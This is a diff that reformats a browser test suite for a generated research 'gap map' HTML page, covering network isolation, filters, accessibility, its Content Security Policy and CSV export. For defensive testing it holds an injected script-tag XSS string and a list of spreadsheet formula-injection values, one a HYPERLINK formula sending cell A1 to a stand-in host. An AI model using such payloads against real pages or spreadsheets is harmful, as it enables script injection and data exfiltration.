@@ -21,13 +21,21 @@ from workbench.gaps import CHANNELS, analyse_gaps
 from workbench.render.gap_map import script_json
 
 CHROMIUM = Path("/usr/bin/chromium")
-ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
-        "--disable-component-update", "--disable-sync", "--no-first-run"]
+ARGS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
 HOSTILE = "<script>window.__pwned = 1</script>"
 HOSTILE_KEY = "gray2020"
 
-pytestmark = pytest.mark.skipif(not CHROMIUM.exists(),
-                                reason="Debian's chromium (/usr/bin/chromium) is not installed")
+pytestmark = pytest.mark.skipif(
+    not CHROMIUM.exists(), reason="Debian's chromium (/usr/bin/chromium) is not installed"
+)
 
 
 @pytest.fixture(scope="module")
@@ -45,8 +53,9 @@ def build_map(repo_root, tmp_path_factory):
     entry = bib.index("{" + HOSTILE_KEY + ",")
     title = bib.index("title", entry)
     brace = bib.index("{", title)
-    (root / BIBLIOGRAPHY).write_text(bib[:brace + 1] + HOSTILE + " " + bib[brace + 1:],
-                                     encoding="utf-8")
+    (root / BIBLIOGRAPHY).write_text(
+        bib[: brace + 1] + HOSTILE + " " + bib[brace + 1 :], encoding="utf-8"
+    )
     corpus = load_corpus(root)
     assert HOSTILE in corpus.references.set_index("key").loc[HOSTILE_KEY, "title"]
     out = tmp_path_factory.mktemp("out")
@@ -67,8 +76,7 @@ def browser():
 @pytest.fixture
 def page(browser, built):
     """A fresh page that records every request and every script error."""
-    context = browser.new_context(viewport={"width": 1500, "height": 1000},
-                                  accept_downloads=True)
+    context = browser.new_context(viewport={"width": 1500, "height": 1000}, accept_downloads=True)
     page = context.new_page()
     page.requests = []
     page.errors = []
@@ -101,16 +109,25 @@ def listed_evidence(page) -> set[tuple[str, str, str]]:
     for i in range(rows.count()):
         row = rows.nth(i)
         for code in row.locator("td.coded .code").all_text_contents():
-            found.add((row.get_attribute("data-evidence"),
-                       row.locator("td.sentence").text_content(), code))
+            found.add(
+                (
+                    row.get_attribute("data-evidence"),
+                    row.locator("td.sentence").text_content(),
+                    code,
+                )
+            )
     return found
 
 
 def expected_evidence(analysis, row_id: str, topic_id: str) -> set[tuple[str, str, str]]:
     e = analysis.evidence
     e = e[(e["row_id"] == row_id) & (e["topic_id"] == topic_id)]
-    return {(i, s, f"{c} (on {o})") for i, s, c, o in zip(
-        e["evidence_id"], e["sentence"], e["coded_by"], e["coded_on"], strict=True)}
+    return {
+        (i, s, f"{c} (on {o})")
+        for i, s, c, o in zip(
+            e["evidence_id"], e["sentence"], e["coded_by"], e["coded_on"], strict=True
+        )
+    }
 
 
 def test_the_page_makes_no_network_request(page, built):
@@ -123,8 +140,11 @@ def test_the_page_makes_no_network_request(page, built):
     page.reload()
     page.wait_for_selector("#grid td[role=gridcell]")
     page_url = html.as_uri()
-    strays = [u for u in page.requests if not (u.split("#")[0] == page_url
-                                               or u.startswith(("data:", "blob:")))]
+    strays = [
+        u
+        for u in page.requests
+        if not (u.split("#")[0] == page_url or u.startswith(("data:", "blob:")))
+    ]
     assert strays == []
     assert page.requests, "the page load itself was recorded"
     assert page.errors == []
@@ -155,21 +175,25 @@ def test_a_filter_changes_the_map_and_is_restored_from_the_fragment(page, built)
     # A channel filter changes the numbers shown.
     open_map(page, built, "#channels=academic")
     cell = analysis.cells.set_index(["row_id", "topic_id"]).loc[
-        ("standard:5", "topic:minoritised_ethnicity")]
+        ("standard:5", "topic:minoritised_ethnicity")
+    ]
     assert td(page, "standard:5", "topic:minoritised_ethnicity").locator(
-        ".count").text_content() == str(cell["count_academic"])
+        ".count"
+    ).text_content() == str(cell["count_academic"])
     assert not page.locator('input[data-filter="channel"][value="roundtable"]').is_checked()
 
 
 def test_rows_expand_from_standard_to_guidelines(page, built):
     open_map(page, built)
-    assert page.locator('#grid tr.guideline').count() == 0
+    assert page.locator("#grid tr.guideline").count() == 0
     toggle = page.locator('tr[data-row="standard:5"] .row-toggle')
     assert toggle.get_attribute("aria-expanded") == "false"
     toggle.click()
-    assert page.locator('#grid tr.guideline').count() == 5
-    assert page.locator('tr[data-row="standard:5"] .row-toggle').get_attribute(
-        "aria-expanded") == "true"
+    assert page.locator("#grid tr.guideline").count() == 5
+    assert (
+        page.locator('tr[data-row="standard:5"] .row-toggle').get_attribute("aria-expanded")
+        == "true"
+    )
     assert "open=standard:5" in page.url
 
 
@@ -182,8 +206,14 @@ def test_every_cell_shows_the_status_and_count_of_the_map(page, built):
                     Number(td.querySelector('.count').textContent)])""")
     cells = analysis.cells
     total = sum(cells[f"count_{c}"] for c in CHANNELS)
-    expected = sorted(map(list, zip(cells["row_id"], cells["topic_id"], cells["status"],
-                                    total.astype(int), strict=True)))
+    expected = sorted(
+        map(
+            list,
+            zip(
+                cells["row_id"], cells["topic_id"], cells["status"], total.astype(int), strict=True
+            ),
+        )
+    )
     assert sorted(shown) == expected
     assert len(shown) == 44 * len(analysis.topics)
 
@@ -203,8 +233,9 @@ def test_a_cell_click_lists_its_evidence(page, built):
         page.locator("#evidence-csv").click()
     with open(download.value.path(), encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
-    assert {(r["evidence_id"], r["sentence"], f"{r['coded_by']} (on {r['coded_on']})")
-            for r in rows} == expected
+    assert {
+        (r["evidence_id"], r["sentence"], f"{r['coded_by']} (on {r['coded_on']})") for r in rows
+    } == expected
     assert {r["row_id"] for r in rows} == {"guideline:5.4"}
 
 
@@ -238,8 +269,9 @@ def test_the_map_is_operable_with_the_keyboard(page, built):
             break
     else:
         pytest.fail("no grid cell is reachable with Tab")
-    focused = page.evaluate("[document.activeElement.dataset.row, "
-                            "document.activeElement.dataset.topic]")
+    focused = page.evaluate(
+        "[document.activeElement.dataset.row, document.activeElement.dataset.topic]"
+    )
     assert focused == ["standard:1", analysis.topics["topic_id"].iloc[0]]
     page.keyboard.press("ArrowRight")
     page.keyboard.press("ArrowDown")
@@ -247,8 +279,7 @@ def test_the_map_is_operable_with_the_keyboard(page, built):
     assert page.evaluate("document.activeElement.dataset.row") == row_id
     page.keyboard.press("Enter")
     topic_label = analysis.topics.set_index("topic_id").loc[topic_id, "label"]
-    assert page.locator("#evidence-title").text_content().startswith(
-        f"Standard 2 × {topic_label}")
+    assert page.locator("#evidence-title").text_content().startswith(f"Standard 2 × {topic_label}")
     assert td(page, row_id, topic_id).get_attribute("aria-selected") == "true"
     assert f"cell={row_id}~{topic_id}" in page.url
     # focus moves to the evidence, whose "Back to the map" returns to the cell
@@ -258,8 +289,10 @@ def test_the_map_is_operable_with_the_keyboard(page, built):
     # A standard opens from the keyboard too.
     page.locator('tr[data-row="standard:3"] .row-toggle').focus()
     page.keyboard.press("Enter")
-    assert page.locator('tr[data-row="standard:3"] .row-toggle').get_attribute(
-        "aria-expanded") == "true"
+    assert (
+        page.locator('tr[data-row="standard:3"] .row-toggle').get_attribute("aria-expanded")
+        == "true"
+    )
     assert page.locator('tr[data-row="guideline:3.1"]').count() == 1
     first = page.locator("#grid td[role=gridcell]").first
     label = first.get_attribute("aria-label")
@@ -290,7 +323,8 @@ def test_the_inline_script_and_style_run_under_a_policy_naming_their_hashes(page
     td(page, "standard:3", "topic:lgbt").click()  # the script runs: the panel fills in
     assert page.locator("#evidence-title").text_content().startswith("Standard 3 × ")
     colour = page.locator("#channel-legend .chip").first.evaluate(
-        "n => getComputedStyle(n).backgroundColor")
+        "n => getComputedStyle(n).backgroundColor"
+    )
     assert colour not in ("", "rgba(0, 0, 0, 0)"), "styles set by the script apply"
     assert page.errors == []
 
@@ -299,8 +333,9 @@ def test_a_script_the_policy_does_not_name_is_refused(page, built, tmp_path):
     html, _ = built
     text = html.read_text(encoding="utf-8")
     tampered = tmp_path / "gap_map.html"
-    tampered.write_text(text.replace("<script>\n", "<script>\nwindow.__tampered = 1;\n", 1),
-                        encoding="utf-8")
+    tampered.write_text(
+        text.replace("<script>\n", "<script>\nwindow.__tampered = 1;\n", 1), encoding="utf-8"
+    )
     console = []
     page.on("console", lambda message: console.append(message.text))
     page.goto(tampered.as_uri())
@@ -311,8 +346,14 @@ def test_a_script_the_policy_does_not_name_is_refused(page, built, tmp_path):
 
 
 #: Cells a spreadsheet would run as formulas, put in the page's data in place of a citation.
-FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
-            "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 def test_the_csv_download_neutralises_formulas(page, built, tmp_path):
@@ -321,8 +362,9 @@ def test_the_csv_download_neutralises_formulas(page, built, tmp_path):
     e = analysis.evidence
     academic = e[e["row_id"].str.startswith("standard:") & (e["channel"] == "academic")]
     per_cell = academic.groupby(["row_id", "topic_id"])["citation"].agg(lambda c: sorted(set(c)))
-    (row_id, topic_id), citations = next((k, v) for k, v in per_cell.items()
-                                         if len(v) >= len(FORMULAS))
+    (row_id, topic_id), citations = next(
+        (k, v) for k, v in per_cell.items() if len(v) >= len(FORMULAS)
+    )
     replaced = dict(zip(citations, FORMULAS, strict=False))
     for citation, formula in replaced.items():
         old = script_json(citation)
@@ -348,8 +390,9 @@ def test_the_csv_download_neutralises_formulas(page, built, tmp_path):
 def test_the_index_page_runs_its_style_under_its_policy_and_nothing_else(page, tmp_path):
     from workbench.render.index import write_index
 
-    index = write_index(load_corpus(Path(__file__).resolve().parents[2]), tmp_path,
-                        [Path("gap_map.html")], "0" * 64)
+    index = write_index(
+        load_corpus(Path(__file__).resolve().parents[2]), tmp_path, [Path("gap_map.html")], "0" * 64
+    )
     text = index.read_text(encoding="utf-8")
     (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
     assert policy.startswith("default-src 'none'") and "unsafe-inline" not in policy
@@ -357,8 +400,9 @@ def test_the_index_page_runs_its_style_under_its_policy_and_nothing_else(page, t
     page.on("console", lambda message: console.append(message.text))
     page.goto(index.as_uri())
     assert not [m for m in console if "Content Security Policy" in m], console
-    assert page.locator("h1").evaluate("n => getComputedStyle(n).fontSize") == "25.6px", \
+    assert page.locator("h1").evaluate("n => getComputedStyle(n).fontSize") == "25.6px", (
         "the page's own style sheet applies (h1 at 1.6rem)"
+    )
     assert page.locator('a[href="gap_map.html"]').count() == 1
 
 
@@ -368,8 +412,11 @@ def test_design_and_country_filters_count_only_the_matching_works(page, built):
     practice = ["count_roundtable", "count_consultation", "count_programme", "count_framework"]
     open_map(page, built, "#countries=uk")
     assert not page.locator('input[data-filter="country"][value="elsewhere"]').is_checked()
-    for key in (("standard:3", "topic:groupwork"), ("standard:5", "topic:minoritised_ethnicity"),
-                ("standard:3", "topic:behaviour_change")):
+    for key in (
+        ("standard:3", "topic:groupwork"),
+        ("standard:5", "topic:minoritised_ethnicity"),
+        ("standard:3", "topic:behaviour_change"),
+    ):
         cell = cells.loc[key]
         expected = int(cell["works_uk"] + sum(cell[c] for c in practice))
         assert td(page, *key).locator(".count").text_content() == str(expected), key
@@ -390,22 +437,33 @@ def test_stated_gaps_are_marked_and_listed_with_the_verdict(page, built):
     open_map(page, built, "#open=" + ",".join(f"standard:{n}" for n in range(1, 8)))
     for row_id, topic_id in zip(against["row_id"], against["topic_id"], strict=True):
         assert td(page, row_id, topic_id).locator(".stated.against").count() == 1
-    agreed = stated[(stated["row_id"] != "") & ~stated.set_index(["row_id", "topic_id"]).index
-                    .isin(against.set_index(["row_id", "topic_id"]).index)]
+    agreed = stated[
+        (stated["row_id"] != "")
+        & ~stated.set_index(["row_id", "topic_id"]).index.isin(
+            against.set_index(["row_id", "topic_id"]).index
+        )
+    ]
     row_id, topic_id = agreed.iloc[0][["row_id", "topic_id"]]
     marker = td(page, row_id, topic_id).locator(".stated")
     assert marker.count() == 1 and "against" not in (marker.get_attribute("class") or "")
-    unmarked = analysis.cells[~analysis.cells.set_index(["row_id", "topic_id"]).index.isin(
-        stated.set_index(["row_id", "topic_id"]).index) & (analysis.cells["level"] == "standard")]
+    unmarked = analysis.cells[
+        ~analysis.cells.set_index(["row_id", "topic_id"]).index.isin(
+            stated.set_index(["row_id", "topic_id"]).index
+        )
+        & (analysis.cells["level"] == "standard")
+    ]
     assert td(page, *unmarked.iloc[0][["row_id", "topic_id"]]).locator(".stated").count() == 0
     td(page, "standard:5", "topic:minoritised_ethnicity").click()
     quotes = page.locator("#stated-list li q").all_text_contents()
-    mine = stated[(stated["row_id"] == "standard:5")
-                  & (stated["topic_id"] == "topic:minoritised_ethnicity")]
+    mine = stated[
+        (stated["row_id"] == "standard:5") & (stated["topic_id"] == "topic:minoritised_ethnicity")
+    ]
     marks = analysis.marks
     on_row = marks[(marks["scope"] == "row") & (marks["row_id"] == "standard:5")]
-    on_topic = marks[(marks["scope"] == "topic")
-                     & (marks["topic_id"] == "topic:minoritised_ethnicity")
-                     & ~marks["gap_id"].isin(mine["gap_id"])].drop_duplicates("gap_id")
+    on_topic = marks[
+        (marks["scope"] == "topic")
+        & (marks["topic_id"] == "topic:minoritised_ethnicity")
+        & ~marks["gap_id"].isin(mine["gap_id"])
+    ].drop_duplicates("gap_id")
     assert sorted(quotes) == sorted([*mine["quote"], *on_row["quote"], *on_topic["quote"]])
     assert any("needs building in a UK context" in q for q in quotes)
